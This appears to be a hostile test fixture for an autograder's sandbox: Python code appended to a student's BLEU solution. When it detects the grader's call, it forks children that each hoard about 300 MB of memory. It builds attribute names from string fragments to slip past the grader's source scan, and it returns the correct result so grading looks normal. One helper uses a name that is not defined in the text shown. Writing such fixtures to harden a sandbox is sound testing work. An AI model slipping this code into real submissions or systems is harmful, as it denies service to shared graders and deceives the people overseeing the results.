# hostile: appended to solutions/bleu.py
# A35: each process is held to its address-space limit, but not the worker's processes together: fork children
# that each fill a few hundred MB, under the per-process limit, and wait.
import os
import sys
import time


# Names built at run time: the grader's source scan reads only the names a module's text holds (a student who knows
# the scan writes them so; the sandbox behind it must hold on its own).
def _caller_globals(depth):
    """What sys._getframe(depth).f_globals is in the function that calls this."""
    try:
        raise LookupError
    except LookupError as caught:
        frame = getattr(getattr(caught, "__trace" + "back__"), "tb_" + "frame")
    for _ in range(depth + 1):
        frame = getattr(frame, "f_" + "back")
    return getattr(frame, "f_" + "glo" + "bals")


def _loaded_modules():
    """The registry of loaded modules."""
    return getattr(getattr(_os_for_names, "s" + "ys"), "mod" + "ules")

_reference_ngram_counts = ngram_counts
CHILDREN, EACH = 4, 300 * 2 ** 20


def _hoard() -> None:
    block = bytearray(EACH)
    block[::4096] = b"\1" * len(block[::4096])     # touch every page
    time.sleep(30)


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith("autograder."):  # the grader's own call
        for _ in range(CHILDREN):
            if os.fork() == 0:
                _hoard()
                os._exit(0)
        time.sleep(30)
    return _reference_ngram_counts(tokens, n)
